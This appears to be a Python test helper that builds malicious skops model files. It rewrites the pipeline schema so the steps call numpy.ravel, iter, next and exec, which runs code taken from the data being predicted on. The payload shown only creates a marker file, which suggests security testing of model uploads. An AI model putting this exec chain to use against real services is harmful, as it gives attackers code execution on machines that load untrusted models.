"""Model files an attacker would upload: a real skops file of a pipeline of FunctionTransformers
whose schema is rewritten to name the callables of the attack, e.g. numpy.ravel -> builtins.iter
-> builtins.next -> builtins.exec, which runs the first cell of the rows it predicts on."""

from __future__ import annotations

import functools
import io
import json
import zipfile
from collections.abc import Iterator
from typing import Any

import numpy as np
import skops.io as sio
from sklearn.dummy import DummyClassifier
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer

EXEC_CHAIN = ["numpy.ravel", "builtins.iter", "builtins.next", "builtins.exec"]


@functools.cache
def _template() -> tuple[str, tuple[tuple[str, bytes], ...]]:
    steps: list[tuple[str, Any]] = [(f"step{i}", FunctionTransformer(np.log1p)) for i in range(4)]
    final = DummyClassifier().fit([[0.0], [1.0]], [0, 1])  # so that the pipeline predicts, as a model does
    pipeline = Pipeline([*steps, ("model", final)])
    with zipfile.ZipFile(io.BytesIO(sio.dumps(pipeline))) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    return members.pop("schema.json").decode(), tuple(members.items())


def template() -> tuple[dict[str, Any], dict[str, bytes]]:
    """A real skops file of a pipeline of four FunctionTransformers before a classifier: its
    schema and its arrays."""
    schema, members = _template()
    return json.loads(schema), dict(members)


def function_nodes(schema: Any) -> Iterator[dict[str, Any]]:
    """The FunctionNodes of a schema, in pipeline order."""
    if isinstance(schema, dict):
        if schema.get("__loader__") == "FunctionNode":
            yield schema
        for value in schema.values():
            yield from function_nodes(value)
    elif isinstance(schema, list):
        for value in schema:
            yield from function_nodes(value)


def crafted(chain: list[str]) -> bytes:
    """A skops file whose pipeline calls `chain` (dotted names) in turn, one per step."""
    schema, members = template()
    steps = list(function_nodes(schema))
    for index, (node, name) in enumerate(zip(steps, [*chain, *[chain[-1]] * (len(steps) - len(chain))], strict=True)):
        node["__module__"], _, node["__class__"] = name.rpartition(".")
        node["__id__"] = 7_000_000 + index  # one object per step (skops shares nodes of one id)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def payload(marker: str) -> str:
    """The first cell that the exec chain runs: it makes the marker file."""
    return f"open({marker!r}, 'w').close()"
